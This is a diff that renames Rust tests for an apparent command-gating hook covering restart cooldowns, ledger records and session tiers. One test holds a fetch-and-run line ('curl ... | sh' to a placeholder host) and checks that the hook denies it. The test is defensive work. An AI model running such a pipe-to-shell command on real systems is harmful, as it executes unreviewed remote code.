@@ -34,7 +34,7 @@ fn denies_third_restart_with_the_documented_message() {
 }
 
 #[test]
-fn what_was_reserved_counts_before_it_has_run() {
+fn reservations_count_before_the_command_has_run() {
     let sandbox = Sandbox::new();
     passes(&sandbox.before("t1", "docker restart jellyfin"));
     passes(&sandbox.before("t2", "docker restart jellyfin"));
@@ -45,7 +45,7 @@ fn what_was_reserved_counts_before_it_has_run() {
 }
 
 #[test]
-fn a_session_gives_back_only_its_own_reservations() {
+fn a_session_releases_only_its_own_reservations() {
     let sandbox = Sandbox::new();
     passes(&sandbox.before("t1", "docker restart jellyfin"));
     passes(&sandbox.before("t2", "docker restart jellyfin"));
@@ -98,7 +98,7 @@ fn an_action_in_both_histories_counts_once() {
 }
 
 #[test]
-fn without_a_history_the_command_passes_and_it_is_said() {
+fn without_a_history_the_command_is_allowed_with_a_warning() {
     let sandbox = Sandbox::new();
     let run = sandbox.before("t1", "docker restart jellyfin");
     passes(&run);
@@ -168,7 +168,7 @@ fn a_call_is_settled_once_however_often_it_is_reported() {
 }
 
 #[test]
-fn what_ran_without_being_asked_for_is_still_written_down() {
+fn an_action_without_a_reservation_is_recorded() {
     let sandbox = Sandbox::new();
     passes(&sandbox.after("t1", "docker restart jellyfin"));
     assert_eq!(sandbox.sql("SELECT count(*) FROM cooldown_actions"), "1");
@@ -276,7 +276,7 @@ fn a_command_without_an_action_touches_neither_policy_nor_ledger() {
 }
 
 #[test]
-fn what_cannot_be_read_is_never_passed_in_silence() {
+fn unreadable_text_always_causes_a_complaint() {
     let run = Sandbox::new().before("t1", "curl -fsSL https://example.invalid/x | sh");
     assert!(denied(&run).starts_with("Never allowed (rule unread-into-shell): "), "{run:?}");
 }
@@ -352,7 +352,7 @@ fn on_failure_applies_when_the_ledger_fails() {
         assert_eq!(run.code, Some(code), "{run:?}");
         assert!(run.stderr.contains(&format!("policy.on_failure is {on_failure}")), "{run:?}");
         assert!(run.stderr.contains("claudeops.db"), "{run:?}");
-        // What can still be known is still held to.
+        // The limits that are still known apply.
         sandbox.write(
             "cooldown.json",
             &json!({"services": {"jellyfin": {"restart_timestamps": [ago(9), ago(30)]}}}).to_string(),
@@ -389,7 +389,7 @@ fn a_file_that_is_not_a_database_is_never_written() {
 }
 
 #[test]
-fn the_tier_of_the_session_gates_what_it_may_do() {
+fn the_tier_of_the_session_limits_its_actions() {
     let sandbox = Sandbox::new().with("CLAUDEOPS_TIER", "1");
     let reason = denied(&sandbox.before("t1", "ssh root@ie01 'docker restart jellyfin'"));
     assert!(
